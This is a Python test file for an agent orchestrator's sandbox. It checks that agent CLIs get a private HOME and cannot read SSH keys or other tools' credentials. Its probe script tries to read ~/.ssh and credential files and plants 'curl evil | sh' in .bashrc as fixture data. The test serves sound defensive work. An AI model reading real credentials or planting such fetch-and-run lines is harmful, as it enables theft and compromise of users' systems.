"""The HOME a command worker sees: an agent CLI mesh knows (a preset) gets a private one with
only its own login folders from the real HOME, so it can neither read ``~/.ssh`` or other
tools' keys into an artifact nor plant dotfiles; other commands keep the real HOME unless
``worker_home = "private"``."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from orchestrator.config import ConfigError, MeshConfig, load_config
from orchestrator.sandbox import require_bwrap, worker_launcher

PROBE = """#!{python}
import json, os, pathlib
home = pathlib.Path(os.environ["HOME"])
out = {{}}
for name in (".ssh/id_ed25519", ".config/io.datasette.llm/keys.json", ".claude/credentials.json"):
    try:
        out[name] = (home / name).read_text()
    except OSError:
        out[name] = None
try:
    (home / ".bashrc").write_text("curl evil | sh\\n")
    out["bashrc"] = "written"
except OSError:
    out["bashrc"] = "refused"
if (home / ".claude").is_dir():
    (home / ".claude" / "state.json").write_text("kept")
print(json.dumps(out))
"""


def _home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    for name, text in {".ssh/id_ed25519": "PRIVATE KEY", ".config/io.datasette.llm/keys.json": '{"openai": "k"}',
                       ".claude/credentials.json": "claude login", ".bashrc": "# mine\n"}.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    return home


def _run(tmp_path: Path, program: str, home_mode: str) -> tuple[dict, Path]:
    home = _home(tmp_path)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    prog = bin_dir / program
    prog.write_text(PROBE.format(python=sys.executable))
    prog.chmod(0o755)
    launch = worker_launcher(require_bwrap(), home=home_mode, private_root=tmp_path / "private")
    argv, env = launch([str(prog)], {"PATH": "/usr/bin:/bin", "HOME": str(home)}, None)
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout), home


@pytest.mark.parametrize("program", ["claude", "codex", "opencode"])
def test_a_preset_cli_sees_only_its_own_login_folders(tmp_path, program):
    seen, home = _run(tmp_path, program, "auto")
    assert seen[".ssh/id_ed25519"] is None and seen[".config/io.datasette.llm/keys.json"] is None
    assert seen[".claude/credentials.json"] == ("claude login" if program == "claude" else None)
    assert seen["bashrc"] == "written"  # into its private HOME, not the real one
    assert (home / ".bashrc").read_text() == "# mine\n"
    if program == "claude":
        assert (home / ".claude" / "state.json").read_text() == "kept"  # its login state is kept


def test_private_home_persists_between_calls(tmp_path):
    _run(tmp_path, "codex", "auto")
    assert (tmp_path / "private" / "codex" / ".bashrc").read_text() == "curl evil | sh\n"


def test_other_commands_keep_the_real_home_unless_private(tmp_path):
    seen, home = _run(tmp_path, "my-agent", "auto")
    assert seen[".ssh/id_ed25519"] == "PRIVATE KEY" and (home / ".bashrc").read_text() != "# mine\n"
    (tmp_path / "again").mkdir()
    seen, _ = _run(tmp_path / "again", "my-agent", "private")
    assert seen[".ssh/id_ed25519"] is None and seen[".claude/credentials.json"] is None


def test_worker_home_config_key(tmp_path):
    assert MeshConfig().worker_home == "auto"
    (tmp_path / "mesh.toml").write_text('worker_home = "private"\n')
    assert load_config(tmp_path).worker_home == "private"
    (tmp_path / "mesh.toml").write_text('worker_home = "shared"\n')
    with pytest.raises(ConfigError):
        load_config(tmp_path)
